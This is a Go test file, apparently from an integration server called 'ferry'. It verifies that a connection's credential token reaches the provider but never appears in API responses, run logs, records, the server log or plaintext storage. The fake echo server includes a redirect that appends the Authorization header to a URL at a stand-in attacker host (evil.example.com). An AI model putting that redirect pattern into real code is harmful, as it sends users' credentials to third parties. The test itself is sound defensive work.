package api_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ferrysync/ferry/internal/logbuf"
	"github.com/ferrysync/ferry/server"
)

// TestCredentialsNeverVisible gives a connection a token and runs the snoop plugin, which
// calls every host function (and an echo endpoint that repeats the request it got, token
// included) and writes whatever it saw into records, logs, stdout and stderr, its checkpoint,
// the connection's metadata, an action's output and an action's error. The token reaches the
// provider, and nowhere else: not the records, run logs or any other API response, not the
// server's log, not the store's file in plain text.
func TestCredentialsNeverVisible(t *testing.T) {
	const token = "tok-3f9a1c77e5d24b0f-snoop"
	var provider struct {
		sync.Mutex
		gotToken int
	}
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		provider.Lock()
		if r.Header.Get("Authorization") == "Bearer "+token {
			provider.gotToken++
		}
		provider.Unlock()
		body, _ := io.ReadAll(r.Body)
		if r.URL.Path == "/redirect" {
			w.Header().Set("Location", "https://evil.example.com/?stolen="+r.Header.Get("Authorization"))
			w.WriteHeader(http.StatusFound)
			return
		}
		w.Header().Set("X-Echo-Authorization", r.Header.Get("Authorization"))
		json.NewEncoder(w).Encode(map[string]any{"method": r.Method, "url": r.URL.String(), "headers": r.Header, "body": string(body)})
	}))
	defer echo.Close()

	logs := &logbuf.Buffer{}
	data := t.TempDir()
	srv, err := server.New(context.Background(), server.Config{
		DataDir: data, CacheDir: worker.CacheDir, Workers: 2, WorkerCommand: []string{worker.Bin, "worker"},
		Logger: slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
	})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	hs := httptest.NewServer(srv.Handler())
	defer func() {
		hs.Close()
		srv.Close()
	}()
	s := &testServer{Server: hs, key: srv.APIKey, data: data}

	var answers []string // every API response body
	call := func(method, path, body string) []byte {
		t.Helper()
		status, b := s.json(t, method, path, body)
		answers = append(answers, fmt.Sprintf("%s %s → %d %s", method, path, status, b))
		return b
	}

	dir := filepath.Join("..", "runtime", "testdata", "plugins", "snoop")
	manifest, err := os.ReadFile(filepath.Join(dir, "ferry.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	wasm, err := os.ReadFile(filepath.Join(dir, "plugin.wasm"))
	if err != nil {
		t.Fatalf("test plugin snoop is not built (run `make build` first): %v", err)
	}
	if status, body := s.deploy(t, manifest, wasm); status != http.StatusCreated {
		t.Fatalf("deploy: %d %s", status, body)
	}
	call("PUT", "/v1/connections/snoop/acme", fmt.Sprintf(`{"credentials":{"token":%q},"metadata":{"m":1},"base_url":%q}`, token, echo.URL))

	// A sync, twice (so the second sees the first's checkpoint and last sync time).
	var runIDs []string
	for range 2 {
		var trig struct {
			RunID string `json:"run_id"`
		}
		json.Unmarshal(call("POST", "/v1/syncs/snoop/acme/snoop/trigger", ""), &trig)
		var run struct {
			Status string `json:"status"`
			Error  string `json:"error"`
		}
		for deadline := time.Now().Add(time.Minute); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
			_, b := s.json(t, "GET", "/v1/runs/"+trig.RunID, "")
			json.Unmarshal(b, &run)
			if run.Status != "queued" && run.Status != "running" {
				break
			}
		}
		if run.Status != "succeeded" {
			t.Fatalf("snoop run: %s %q", run.Status, run.Error)
		}
		runIDs = append(runIDs, trig.RunID)
	}
	// The action, succeeding and failing.
	out := call("POST", "/v1/actions/snoop/acme/snoop-action", `{"x":1}`)
	if !strings.Contains(string(out), "dump") {
		t.Errorf("action output %s", out)
	}
	if failed := call("POST", "/v1/actions/snoop/acme/snoop-action", `{"fail":true}`); !strings.Contains(string(failed), "failing on purpose") {
		t.Errorf("failed action answered %s", failed)
	}

	// Read back everything the API shows.
	records := call("GET", "/v1/records?integration=snoop&connection=acme&model=Seen&limit=1000", "")
	for _, id := range runIDs {
		call("GET", "/v1/runs/"+id, "")
		call("GET", "/v1/runs/"+id+"/log", "")
	}
	var list struct {
		Runs []struct {
			ID string `json:"id"`
		} `json:"runs"`
	}
	json.Unmarshal(call("GET", "/v1/runs?integration=snoop", ""), &list)
	for _, r := range list.Runs {
		call("GET", "/v1/runs/"+r.ID+"/log", "")
	}
	for _, path := range []string{
		"/v1/connections/snoop/acme", "/v1/connections", "/v1/syncs/snoop/acme/snoop",
		"/v1/integrations/snoop", "/v1/links/snoop/acme/Seen/app-1",
	} {
		call("GET", path, "")
	}

	// The plugin did see the echo, redacted: the test looked where the token would have been.
	if !strings.Contains(string(records), "REDACTED") || !strings.Contains(string(records), `http GET /echo`) {
		t.Errorf("the records do not hold the redacted echo: %.2000s", records)
	}
	provider.Lock()
	if provider.gotToken == 0 {
		t.Error("the provider never got the token")
	}
	provider.Unlock()

	for _, a := range answers {
		if strings.Contains(a, token) {
			t.Errorf("an API response shows the token: %.3000s", a)
		}
	}
	srv.Close() // flushes what the server logs at shutdown
	if l := logs.String(); strings.Contains(l, token) {
		t.Errorf("the server's log shows the token:\n%s", l)
	} else if !strings.Contains(l, "run finished") {
		t.Errorf("the server's log is not the one we think: %.500s", l)
	}
	// At rest, the token is sealed: no file in the data directory holds it in plain text.
	filepath.WalkDir(data, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if err == nil && bytes.Contains(b, []byte(token)) {
			t.Errorf("%s holds the token in plain text", path)
		}
		return nil
	})
}
